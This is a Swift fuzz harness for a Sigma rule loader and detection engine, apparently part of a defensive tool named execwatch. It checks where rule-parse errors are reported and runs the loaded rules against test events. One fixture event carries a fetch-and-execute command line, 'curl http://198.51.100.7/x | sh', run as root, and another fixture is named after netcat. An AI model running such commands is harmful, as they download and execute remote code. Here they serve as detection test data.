// Sigma rule files (`*.yml`/`*.yaml` in `--rules`, rules.d, `execwatch rules check`): YAML documents
// with logsource, detection, condition and metadata, including the correlation documents that are
// refused at load. Rules that load are run on two events; errors must name a position inside the file.
import ExecEvents
import FuzzSupport
import RuleEngine

/// A second event unlike `FuzzEvents.netcat`: another user, image and command line, so that
/// selections, `not` and field modifiers evaluate both ways.
let shellEvent = ExecEvent(
    eventTime: EventTime(millisecondsSinceEpoch: 1_795_860_001_456),
    hostName: "db-2",
    user: "root",
    procName: "bash",
    swParam: "-c 'curl http://198.51.100.7/x | sh'",
    procId: 777,
    parentProcId: 4242,
    exePath: "/usr/bin/bash",
    uid: 0,
    args: [Array("bash".utf8), Array("-c".utf8), Array("curl http://198.51.100.7/x | sh".utf8)]
)

@_cdecl("LLVMFuzzerTestOneInput")
public func testOneInput(_ data: UnsafePointer<UInt8>?, _ size: Int) -> CInt {
    let input = FuzzInput(data, size)
    let result = RuleLoader.load(documents: [(file: "fuzz.yml", bytes: input.array)])
    let lines = input.bytes.reduce(1) { $0 + ($1 == 0x0A ? 1 : 0) }
    for error in result.errors + result.skipped {
        _ = error.description
        // Line and column 0 say the problem concerns the whole file (an empty file, no document).
        if error.line == 0 && error.column == 0 { continue }
        fuzzCheck(error.line >= 1 && error.line <= lines, "error line \(error.line) of \(lines): \(error)")
        fuzzCheck(error.column >= 1, "error column \(error.column): \(error)")
    }
    guard !result.rules.isEmpty else { return 0 }
    var engine = DetectionEngine(rules: result.rules, configuration: EngineConfiguration(agentId: "fuzz"))
    for (step, base) in [FuzzEvents.netcat, shellEvent, FuzzEvents.netcat].enumerated() {
        var event = base
        event.eventTime = EventTime(millisecondsSinceEpoch: event.eventTime.millisecondsSinceEpoch + Int64(step) * 1000)
        for update in engine.process(event) { _ = update.incident.jsonLine }
    }
    return 0
}

FuzzDriver.run(testOneInput)
